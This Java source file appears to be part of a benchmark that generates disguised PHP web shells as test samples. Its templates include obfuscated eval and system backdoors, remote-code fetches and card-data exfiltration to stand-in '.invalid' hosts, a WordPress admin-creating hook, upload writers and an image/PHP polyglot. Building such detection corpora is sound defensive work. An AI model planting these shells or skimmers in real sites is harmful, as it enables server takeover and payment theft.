package org.evenkeel.bench.webroot;

import java.util.List;

/// Invents PHP programs that let a visitor in.
final class Shells {
  private static final List<String> INPUTS =
      List.of(
          "$_POST['%s']",
          "$_GET['%s']",
          "$_REQUEST['%s']",
          "$_COOKIE['%s']",
          "@$_POST[\"%s\"]",
          "$_SERVER['HTTP_X_%s']",
          "file_get_contents('php://input')",
          "$_POST[%s]");

  private static final List<String> SYSTEM =
      List.of("system", "exec", "shell_exec", "passthru", "popen");

  private final Disguises by;

  Shells(Disguises by) {
    this.by = by;
  }

  private String input() {
    return by.any(INPUTS).formatted(by.name());
  }

  /// Input, sometimes decoded or through a variable first.
  private String[] fed() {
    String input = input();
    String variable = "$" + by.name();
    return switch (by.any(List.of(0, 1, 2, 3))) {
      case 0 -> new String[] {"", input};
      case 1 -> new String[] {"", "base64_decode(" + input + ")"};
      case 2 -> new String[] {variable + "=" + input + ";", variable};
      default ->
          new String[] {variable + "=str_rot13(" + input + ");", "stripslashes(" + variable + ")"};
    };
  }

  Shape plainCode() {
    String[] fed = fed();
    String run =
        by.any(
            List.of(
                "eval(%s);",
                "@eval(%s);",
                "assert(%s);",
                "$f=create_function('',%s);$f();",
                "preg_replace('/.*/e',%s,'');",
                "eval('?>'.%s);"));
    return php("input to code", fed[0] + run.formatted(fed[1]));
  }

  Shape plainCommand() {
    String[] fed = fed();
    String sink = by.any(SYSTEM);
    String tail = by.coin() ? ".' 2>&1'" : "";
    return php(
        "input to command",
        "if(isset("
            + input().replace("@", "").replace("file_get_contents('php://input')", "$_GET['a']")
            + ")){"
            + fed[0]
            + "echo "
            + sink
            + "("
            + fed[1]
            + tail
            + ");}");
  }

  Shape hiddenName() {
    String[] fed = fed();
    String variable = "$" + by.name();
    String sink = by.any(List.of("assert", "system", "passthru", "shell_exec", "create_function"));
    return php(
        "name hidden",
        fed[0] + variable + "=" + by.word(sink) + ";@" + variable + "(" + fed[1] + ");");
  }

  Shape chosenName() {
    String first = input();
    String call =
        by.any(
            List.of(
                "%s(%s);", "call_user_func(%s,%s);", "array_map(%s,array(%s));", "$f=%s;$f(%s);"));
    return php(
        "name from input",
        call.formatted(first.startsWith("@") ? first.substring(1) : first, input()));
  }

  Shape callback() {
    String[] fed = fed();
    String call =
        by.any(
            List.of(
                "array_map('assert',array(%s));",
                "call_user_func('system',%s);",
                "usort($a=array(%s,1),'assert');",
                "array_filter(array(%s),'assert');",
                "array_walk($b=array(%s),'passthru');"));
    return php("callback", fed[0] + call.formatted(fed[1]));
  }

  Shape packed() {
    String inner = "@eval(" + input() + ");";
    String run = by.any(List.of("eval(%s);", "$z=%s;eval($z);", "@eval(%s);", "assert(%s);"));
    return php("packed", run.formatted(by.packed(inner)));
  }

  Shape twicePacked() {
    String inner = "eval(" + by.packed("system($_GET['" + by.name() + "']);") + ");";
    return php("packed twice", "eval(" + by.packed(inner) + ");");
  }

  Shape ownFunction() {
    String function = by.name();
    String body = by.any(List.of("eval($a);", "return system($a);", "$x=$a;assert($x);"));
    return php(
        "through a function of its own",
        "function " + function + "($a){" + body + "}" + function + "(" + input() + ");");
  }

  Shape ownDecoder() {
    String function = by.name();
    String data = Disguises.base64("x".repeat(40) + by.name().repeat(12));
    return php(
        "decoder of its own",
        "function "
            + function
            + "($s,$k){$o='';for($i=0;$i<strlen($s);$i++){$o.=chr(ord($s[$i])^ord($k[$i%strlen($k)]));}return"
            + " $o;}eval("
            + function
            + "(base64_decode('"
            + data
            + "'),'"
            + by.name()
            + "'));");
  }

  Shape writer() {
    String write =
        by.any(
            List.of(
                "file_put_contents($_POST['f'],$_POST['c']);",
                "file_put_contents($_REQUEST['p'],base64_decode($_REQUEST['d']));",
                "copy($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
                "move_uploaded_file($_FILES['u']['tmp_name'],'./'.$_FILES['u']['name']);",
                "$d=$_POST['d'];$n=$_POST['n'];file_put_contents($n,$d);",
                "copy($_GET['u'],$_GET['t']);"));
    return php("writer and uploader", write);
  }

  Shape poured() {
    return php(
        "variables poured",
        by.any(
            List.of(
                "extract($_REQUEST);@$a($b);",
                "foreach($_POST as $k=>$v){$$k=$v;}@$fn($arg);",
                "@extract($_COOKIE);$x($y,$z);")));
  }

  Shape fetched() {
    return php(
        "fetched code",
        by.any(
            List.of(
                "eval(file_get_contents('http://files." + by.name() + ".invalid/a.txt'));",
                "$c=curl_init('https://"
                    + by.name()
                    + ".invalid/x');$r=curl_exec($c);eval('?>'.$r);",
                "eval('?>'.@file_get_contents(" + by.word("http://a.invalid/b") + "));")));
  }

  Shape hiddenInclude() {
    String path = "/var/www/html/wp-content/uploads/." + by.name() + ".ico";
    return php(
        "hidden include",
        by.any(
            List.of(
                "@include \"" + Disguises.escapes(path) + "\";",
                "include '/tmp/." + by.name() + "';",
                "@require_once(" + by.word(path) + ");")));
  }

  Shape admin() {
    return php(
        "makes an admin",
        "add_action('init',function(){if(!username_exists('"
            + by.name()
            + "')){$u=wp_create_user('"
            + by.name()
            + "','"
            + by.name()
            + "x9','a@b.invalid');$o=new WP_User($u);$o->set_role('administrator');}});");
  }

  Shape polyglot() {
    return new Shape(
        "picture with program",
        "wp-content/uploads/2026/01/" + by.name() + ".jpg",
        "GIF89a\u0001\u0000\u0001\u0000;<?php " + "system($_GET['" + by.name() + "']);");
  }

  Shape serverSkimmer() {
    String card =
        by.any(
            List.of(
                "$_POST['payment']['cc_number']",
                "$_POST['cc_number'].'|'.$_POST['cc_cid']",
                "$_POST"));
    String coded =
        by.any(
                List.of(
                    "base64_encode(serialize(%s))",
                    "base64_encode(json_encode(%s))", "bin2hex(serialize(%s))"))
            .formatted(card);
    return php(
        "server-side skimmer",
        by.any(
            List.of(
                "file_put_contents('pub/media/catalog/"
                    + by.name()
                    + ".jpg',"
                    + coded
                    + ".\"\\n\",FILE_APPEND);",
                "file_get_contents('https://" + by.name() + ".invalid/p.php?d='." + coded + ");",
                "$c=curl_init('https://"
                    + by.name()
                    + ".invalid/g');curl_setopt($c,CURLOPT_POSTFIELDS,"
                    + coded
                    + ");curl_exec($c);")));
  }

  private Shape php(String shape, String body) {
    String before = by.coin() ? by.filler() : "";
    String after = by.coin() ? "\n?>\n<p>ok</p>\n" : "\n";
    return new Shape(shape, "a/" + by.name() + ".php", "<?php\n" + before + body + after);
  }
}
